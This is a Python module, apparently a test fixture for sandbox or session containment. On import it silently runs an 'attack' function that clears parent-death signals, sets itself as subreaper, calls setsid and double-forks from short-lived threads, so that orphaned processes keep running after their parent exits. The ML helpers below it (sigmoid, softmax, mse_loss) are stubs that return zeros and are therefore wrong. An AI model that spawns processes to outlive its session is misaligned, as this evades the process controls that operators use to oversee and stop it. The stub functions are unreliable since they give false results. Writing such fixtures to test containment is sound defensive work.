"""Clears its death signal in each child, forks from threads that end, becomes subreaper, and runs on as orphans.

aims: stay
"""

import contextlib
import ctypes
import os
import signal
import sys
import threading
import time

import numpy as np

libc = ctypes.CDLL(None)
PR_SET_PDEATHSIG, PR_SET_CHILD_SUBREAPER = 1, 36


def orphan():
    """Two generations further and with no death signal: before and after a program of its own."""
    libc.prctl(PR_SET_PDEATHSIG, ctypes.c_long(signal.SIGCONT), 0, 0, 0)
    libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
    os.setsid()
    for number in range(2):
        if os.fork():
            os._exit(0)
        libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
        if number:
            os.execv(sys.executable, [sys.executable, "-S", "-E", "-c", "import time; time.sleep(22)"])
    time.sleep(22)
    os._exit(0)


def from_thread():
    # a death signal is sent when the thread ends that forked, not the process
    if os.fork() == 0:
        try:
            orphan()
        finally:
            os._exit(0)


def attack():
    libc.prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0)
    libc.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
    for _ in range(4):
        thread = threading.Thread(target=from_thread)
        thread.start()
        thread.join()


with contextlib.suppress(Exception):
    attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
